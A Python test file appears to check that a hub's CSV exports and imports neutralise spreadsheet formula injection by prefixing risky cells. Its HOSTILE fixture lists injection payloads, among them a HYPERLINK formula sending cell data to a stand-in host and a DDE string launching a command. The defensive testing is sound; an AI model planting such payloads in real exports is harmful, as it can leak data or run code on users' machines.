"""Every CSV the hub hands out goes through one formula-safe cell writer: a hostile
name never reaches a spreadsheet as a formula (real HTTP, real exports)."""

from __future__ import annotations

import csv
import io

import aiohttp

from channels.directory.csvio import safe_cell
from tests.channels.conftest import DomainHub

HOSTILE = {
    "h1": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "h2": "  +1+cmd|' /C calc'!A0",
    "h3": "＝1+1",
    "h4": "@SUM(1,2)",
    "h5": "\t=1",
    "h6": "－2＋3",
    "-7": "\u3000＠WEBSERVICE(1)",
}


def dangerous(cell: str) -> bool:
    head = cell.lstrip(" \u3000\u00a0\n")
    return bool(head) and head[0] in "=+-@\t\r＝＋－＠"


async def _csv(h: DomainHub, path: str) -> list[list[str]]:
    async with (
        aiohttp.ClientSession(headers=h.hub.api_headers) as s,
        s.get(f"{h.hub.http_url}{path}") as r,
    ):
        assert r.status == 200 and r.content_type == "text/csv", await r.text()
        raw = await r.read()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_safe_cell() -> None:
    for value in [*HOSTILE.values(), "-5", "+8613800000000", "\r=1"]:
        assert safe_cell(value) == "'" + value
    for value in ["王芳", "", "a=b", "1+1", "'quoted"]:
        assert safe_cell(value) == value
    assert safe_cell(None) == "" and safe_cell(3) == "3"


async def test_receipts_csv_neutralises_hostile_names(nhub: DomainHub) -> None:
    await nhub.ok("POST", "/api/units", {"id": "hu", "name": "=1+2", "parent": "d"})
    for member, name in HOSTILE.items():
        await nhub.ok("POST", "/api/members", {"id": member, "name": name, "unit": "hu"})
    status, reply = await nhub.api(
        "POST",
        "/api/notices",
        {"title": "测试", "body": "正文", "audience": {"members": list(HOSTILE)}},
    )
    assert status == 201, reply
    rows = await _csv(nhub, f"/api/notices/{reply['notice']['id']}/receipts?format=csv")
    assert rows[0][:2] == ["成员编号", "姓名"]
    body = rows[1:]
    assert len(body) == len(HOSTILE)
    names = {row[0].removeprefix("'"): row[1] for row in body}
    # the API stores names trimmed; leading blanks are covered by test_safe_cell
    assert names == {member: "'" + name.strip() for member, name in HOSTILE.items()}
    assert all(row[3] == "'=1+2" for row in body)
    assert not any(dangerous(cell) for row in rows for cell in row)


async def test_directory_exports_neutralise_and_round_trip(org: DomainHub) -> None:
    await org.ok("POST", "/api/units", {"id": "hu", "name": "@单位", "parent": "d"})
    for member, name in HOSTILE.items():
        await org.ok(
            "POST",
            "/api/members",
            {"id": member, "name": name, "unit": "hu", "location": "=A1"},
        )
    await org.ok("POST", "/api/groups", {"id": "hg", "name": "+群", "members": ["h1"]})
    for kind in ("members", "units", "groups"):
        rows = await _csv(org, f"/api/directory/export?kind={kind}")
        assert not any(dangerous(cell) for row in rows for cell in row), kind
    members = await _csv(org, "/api/directory/export?kind=members")
    assert {row[1] for row in members[1:]} >= {"'" + n.strip() for n in HOSTILE.values()}
    # the export imports back unchanged: the ' is taken off again
    async with (
        aiohttp.ClientSession(headers=org.hub.api_headers) as s,
        s.get(f"{org.hub.http_url}/api/directory/export?kind=members") as r,
    ):
        exported = await r.read()
    await org.ok("POST", "/api/directory/import?kind=members", data=exported)
    for member, name in HOSTILE.items():
        got = await org.ok("GET", f"/api/members/{member}")
        assert got["name"] == name.strip(), member
        assert got["location"] == "=A1"
